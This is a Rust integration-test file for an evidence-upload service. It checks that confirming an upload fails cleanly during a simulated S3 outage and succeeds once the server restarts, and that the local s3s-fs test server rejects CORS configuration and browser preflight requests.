#[sqlx::test(migrations = "../migrations")]
async fn an_s3_outage_attaches_nothing_and_the_confirmation_succeeds_once_it_is_over(pool: PgPool) {
    let mut harness = Harness::start(&pool, Backend::S3).await;
    let state = harness.state.clone();
    let (team, red, blue) = team(&state).await;
    let id = executing_test_case(&state, &team, red, blue, false).await;
    let digest = sha256(PNG);
    let (upload_id, status) = upload(
        &harness,
        &team.red_tech,
        id,
        "RED",
        "outage.png",
        "image/png",
        (PNG.len() as u64, &digest),
        PNG,
    )
    .await;
    assert!(status.is_success(), "{status}");

    // Down: the same port answers nothing.
    let server = harness.s3.take().unwrap();
    let (endpoint, objects) = (server.endpoint.clone(), server.data.path().to_owned());
    let port: u16 = endpoint.rsplit(':').next().unwrap().parse().unwrap();
    let mut server = server;
    server.child.kill().unwrap();
    server.child.wait().unwrap();
    let started = std::time::Instant::now();
    let refused = graphql(&state, Some(&team.red_tech), &confirm(&upload_id)).await;
    assert_eq!(
        refused["errors"][0]["extensions"]["code"], "UNAVAILABLE",
        "{refused}"
    );
    assert!(
        started.elapsed() < Duration::from_secs(30),
        "confirming hung for {:?}",
        started.elapsed()
    );
    eprintln!(
        "during the outage: {} after {:?}",
        refused["errors"][0],
        started.elapsed()
    );
    let attached: i64 = sqlx::query_scalar(
        "SELECT count(*) FROM events WHERE event_type = 'TestCaseEvidenceAttached'",
    )
    .fetch_one(&pool)
    .await
    .unwrap();
    assert_eq!(attached, 0);

    // Back on the same port and data: the confirmation goes through.
    server.child = Command::new(s3_server_path())
        .args(["--host", "127.0.0.1", "--port", &port.to_string()])
        .args(["--access-key", ACCESS_KEY, "--secret-key", SECRET_KEY])
        .arg(&objects)
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    for _ in 0..100 {
        if tokio::net::TcpStream::connect(("127.0.0.1", port))
            .await
            .is_ok()
        {
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    harness.s3 = Some(server);
    let confirmed = graphql(&state, Some(&team.red_tech), &confirm(&upload_id)).await;
    assert_eq!(
        data(&confirmed, "confirmEvidenceUpload")["sha256"],
        digest.as_str()
    );
}

/// What a browser upload to s3s-fs would meet: it has no CORS API (setting the rule Aegis sets on a bucket it
/// creates answers 501, which `aegis serve` logs and survives) and its preflight answer allows no origin, so a
/// browser would refuse the cross-origin `PUT`. The web scenario therefore uploads to the local-disk store, and
/// the CSP half is tested in `edge.rs`. Should s3s-fs learn CORS, this fails: then the scenario can upload to S3.
#[tokio::test]
async fn s3s_fs_does_not_honour_cors_so_browser_uploads_are_tested_on_local_disk() {
    let _ = rustls::crypto::ring::default_provider().install_default();
    let server = start_s3().await;
    let store = S3Store::connect(s3_settings(&server.endpoint))
        .await
        .unwrap();
    let app_origin = "http://127.0.0.1:8080";
    let refused = store.allow_browser_uploads(app_origin).await.unwrap_err();
    assert_eq!(refused.status(), Some(501), "{refused:?}");
    let key = ObjectKey::quarantine(Uuid::new_v4(), Uuid::new_v4());
    let url = store
        .upload_url(&key, 4, Duration::from_secs(60))
        .await
        .unwrap();
    let preflight = reqwest::Client::new()
        .request(reqwest::Method::OPTIONS, &url)
        .header("origin", app_origin)
        .header("access-control-request-method", "PUT")
        .header("access-control-request-headers", "content-type")
        .send()
        .await
        .unwrap();
    assert!(
        preflight
            .headers()
            .get("access-control-allow-origin")
            .is_none(),
        "s3s-fs now answers preflights: {:?}",
        preflight.headers()
    );
}
